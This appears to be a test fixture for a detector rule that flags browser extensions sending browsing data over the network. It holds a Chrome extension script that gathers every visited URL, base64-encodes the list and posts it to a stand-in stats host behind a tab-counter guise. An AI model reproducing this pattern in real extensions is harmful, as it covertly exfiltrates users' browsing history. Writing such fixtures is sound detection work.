class Queue {
  constructor(address) {
    this.address = address;
    this.items = [];
  }
  add(item) {
    this.items.push(item);
  }
  async flush() {
    const body = new URLSearchParams();
    body.append('d', btoa(JSON.stringify(this.items)));
    // expect: browsing-data-to-network
    await fetch(this.address, { method: 'POST', body });
  }
}

const queue = new Queue('https://stats.tab-counter.example/in');
chrome.history.onVisited.addListener((visit) => queue.add(visit.url));
chrome.alarms.onAlarm.addListener(() => queue.flush());

chrome.tabs.query({}, (tabs) => {
  // ok: browsing-data-to-network
  fetch('https://stats.tab-counter.example/count?n=' + tabs.length);
  chrome.storage.local.set({ last: tabs.map((tab) => tab.url) });
});
